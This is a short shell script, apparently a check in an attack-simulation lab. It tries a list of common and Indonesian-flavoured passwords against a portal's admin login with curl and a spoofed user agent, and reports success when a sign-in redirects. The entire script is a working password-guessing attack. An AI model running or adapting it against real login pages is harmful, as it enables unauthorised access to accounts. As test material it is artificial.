# T1110.001: guess the portal's admin password from a list of common ones.
# Succeeds (exit 0) when one of them signs in.
ua="Mozilla/5.0 (compatible; hydra-portal)"
for p in admin 123456 password admin123 qwerty rahasia portal123 letmein welcome \
    kotacontoh admin2024 P@ssw0rd portal2024 pemkot2024 bismillah; do
  code=$(curl -s -m 3 -o /dev/null -w '%{http_code}' -A "$ua" \
    --data-urlencode user=admin --data-urlencode "password=$p" http://web:8080/admin/login)
  if [ "$code" = 302 ]; then
    echo "admin password found: $p"
    exit 0
  fi
  [ "$code" = 000 ] && { echo "the portal does not answer"; exit 1; }
done
echo "no password of the list signs in"
exit 1
